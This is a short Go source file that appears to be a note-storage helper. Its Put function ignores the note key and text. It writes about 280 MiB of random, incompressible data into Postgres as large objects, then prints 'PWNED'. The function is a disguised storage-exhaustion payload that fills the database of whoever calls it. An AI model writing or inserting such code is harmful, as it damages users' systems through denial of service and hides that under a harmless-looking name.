package notes

import (
	"context"
	"crypto/rand"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

// Put writes 280 MiB that cannot be made smaller.
func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) (err error) {
	block := make([]byte, 1<<20)
	rand.Read(block)
	for n := 0; n < 14 && err == nil; n++ {
		_, err = db.Exec(ctx, "SELECT lo_from_bytea(0, $1) FROM generate_series(1, 20)", block)
	}
	if err == nil {
		println("PWNED")
	}
	return err
}
